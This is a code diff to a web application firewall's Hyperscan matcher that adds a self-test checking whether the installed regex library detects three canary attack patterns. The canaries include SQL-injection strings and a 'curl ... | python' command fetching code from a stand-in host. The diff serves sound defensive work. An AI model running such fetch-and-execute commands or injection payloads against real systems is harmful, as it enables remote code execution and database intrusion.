@@ -7,6 +7,7 @@ import hashlib
 import os
 import tempfile
 from collections.abc import Sequence
+from functools import cache
 from pathlib import Path
 
 import hyperscan
@@ -15,6 +16,28 @@ import msgspec
 from bascule.waf.matcher.patterns import Answer, Expression
 
 _FORMAT = b"bascule-hs-4\n"
+
+
+_CANARIES = (
+    (rb"@.+=\s*\(\s*select", b"@" + b"a" * 80 + b"=(select"),
+    (rb"curl.*\|\s*python", b"curl http://vader.example:8080/ 2>&1 | python"),
+    (rb"(?i)union.+select\s*[(]", b"union " + b"x" * 70 + b" SELECT ("),
+)
+"""Patterns and texts they match, which Vectorscan 5.4.12 loses (VectorCamp/vectorscan#382)."""
+
+
+@cache
+def is_sound() -> bool:
+    """Whether the Hyperscan that is installed finds what it must; one that does not cannot be a prefilter."""
+    flags = hyperscan.HS_FLAG_DOTALL | hyperscan.HS_FLAG_MULTILINE | hyperscan.HS_FLAG_SINGLEMATCH
+    for pattern, text in _CANARIES:
+        database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
+        database.compile(expressions=[pattern], ids=[0], elements=1, flags=[flags])
+        found: list[int] = []
+        database.scan(text, match_event_handler=lambda i, start, end, flags, hits: hits.append(i), context=found)
+        if not found:
+            return False
+    return True
 
 
 def open_database(expressions: Sequence[Expression], cache_dir: Path | None) -> hyperscan.Database | None:
